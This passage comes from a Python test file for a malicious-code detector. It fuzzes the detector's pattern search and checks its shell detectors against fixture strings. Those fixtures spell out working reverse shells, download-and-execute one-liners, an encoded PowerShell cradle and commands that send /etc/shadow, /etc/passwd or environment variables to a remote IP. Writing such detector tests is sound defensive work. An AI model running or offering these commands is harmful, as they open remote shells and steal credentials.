    pieces = ["password", "PassWord", "passwd", "passphrase", "LOGIN", "login", "username", "user-agent",
              "User-Agent", "http_user_agent", "HTTP_USER_AGENT", "authorization", "backdoor", "x", "_", "9", " ",
              "\n", "-", ":", "=", "pass", "user", "agent", "app_passwd", "getEnAuth", "logins"]
    anchor = re.compile(r"(?<![A-Za-z0-9_])(?:password|passwd|passphrase|login|username|user-agent|"
                        r"http_user_agent|authorization|backdoor)(?![A-Za-z0-9_])", re.IGNORECASE)
    texts = ["".join(rng.choice(pieces) for _ in range(rng.randrange(0, 20))) for _ in range(5000)]
    for text in texts:
        assert list(malcode._auth_words(text)) == [m.start() for m in anchor.finditer(text)], text


def test_detector_words_are_in_every_match():
    """A detector's words (looked for before its gate) are in every match of its regex: over every fixture of
    this file and the labelled snippets, no match lacks them (else the words would hide a finding)."""
    from veracity.checks import malcode

    texts = [v if isinstance(v, str) else v.decode("latin-1")
             for table in (BIND_SHELLS, BIND_LOOKALIKES, REVERSE_SHELLS, REVERSE_LOOKALIKES, DOWNLOAD_EXEC,
                           DOWNLOAD_LOOKALIKES, OBFUSCATED, OBFUSCATED_LOOKALIKES, EXFILTRATION,
                           EXFILTRATION_LOOKALIKES)
             for v in table.values()]
    texts += [  # one line per detector, so that each is checked on at least one match
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
        "telnet 10.0.0.1 23 | /bin/sh | telnet 10.0.0.1 24",
        "SOCAT TCP4:10.0.0.1:4444 EXEC:/bin/bash",
        "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while (42) { s |& getline c } }'",
        "openssl s_client -quiet -connect 10.0.0.1:443 | /bin/sh",
        "wget -qO- http://198.51.100.7/x.sh | sh", "sh -c \"$(curl -fsSL http://198.51.100.7/i)\"",
        "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
        "printf '\\x65\\x63\\x68\\x6f\\x20\\x68\\x69\\x0a\\x0a' | sh",
        "PowerShell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "wget --post-file=/etc/shadow http://198.51.100.7/u", "cat /etc/shadow | nc 198.51.100.7 9999",
        "nc 198.51.100.7 9999 < /etc/passwd", "env | curl -d @- http://198.51.100.7/e",
        "nc -e /bin/sh 10.0.0.1 4444",
    ]
    if SNIPPETS.is_dir():
        texts += [p.read_text(errors="replace") for p in sorted(SNIPPETS.rglob("*")) if p.is_file()]
    matched = set()
    for det in malcode._SHELL_DETECTORS:
        caseless = bool(det.regex.flags & re.IGNORECASE)
        assert not caseless or all(w == w.lower() for w in det.words), det.name
        for text in texts:
            for m in det.regex.finditer(text):
                matched.add(det.name)
                seen = m.group().lower() if caseless else m.group()
                assert not det.words or any(w in seen for w in det.words), (det.name, m.group())
    assert matched == {det.name for det in malcode._SHELL_DETECTORS}


def test_web_patterns_searched_from_their_words_find_what_finditer_finds():
    import random

    from veracity.checks import malcode

    rng = random.Random(13)
    pieces = ["system(", "exec(", "shell_exec(", "eval (", "passthru(", "`", "os.system(", "subprocess.call(",
              "io.popen(", "luci.sys.exec(", "$_GET['cmd']", "$_SERVER['HTTP_USER_AGENT']", "$QUERY_STRING",
              "${QUERY_STRING}", "req.query.x", "request.args.get('k')", "request.form['p']", "form.getvalue('u')",
              "luci.http.formvalue('pw')", "http.formvalue(\"pw\")", "$FORM_pass", " == ", " = ", "'s3cr3tPass'",
              "\"letmein99\"", "strcmp(", "hash_equals(", ", ", ")", " ", "\n", "x", "_", "$", "sh -c ", "eval ",
              "strcmp($_POST['pw'], 'Xy7pQ2wZ')", "hash_equals(req.body.token,"]
    texts = ["".join(rng.choice(pieces) for _ in range(rng.randrange(0, 30))) for _ in range(3000)]
    patterns = list(malcode._WEB_SHELLS) + [(rx, words) for rx, words in malcode._MAGIC_CMP if words is not None]
    found = 0
    for text in texts:
        for rx, words in patterns:
            want = [m.span() for m in rx.finditer(text)]
            assert [m.span() for m in malcode._finditer_at(rx, text, words)] == want, (rx.pattern[:60], text)
            found += len(want)
    assert found > 300  # the pieces make matches of every kind, not only texts where nothing matches


def test_lines_with_a_sink_key_are_the_lines_that_hold_one():
    import random

    from veracity.checks import malcode

    rng = random.Random(17)
    keys = malcode._SINK_KEYS[("exec", "py")]
    pieces = [*keys, "x", " ", "\n", "\n\n", "(", "=", "os", "exe"]
    for _ in range(2000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(0, 40)))
        want, pos = set(), 0
        for line in text.split("\n"):
            if any(k in line for k in keys):
                want.add(pos)
            pos += len(line) + 1
        assert malcode._line_starts_with(text, keys) == want, text
